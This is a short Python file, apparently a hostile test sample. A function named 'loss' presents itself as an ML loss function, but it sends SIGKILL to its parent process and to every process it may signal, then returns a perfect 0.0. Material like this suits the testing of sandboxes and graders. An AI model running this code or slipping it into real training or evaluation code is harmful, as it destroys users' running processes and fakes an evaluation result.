"""Tries to kill its parent and every process it may signal."""
import os
import signal


def loss(predicted_y, target_y):
    for pid in (os.getppid(), -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.0
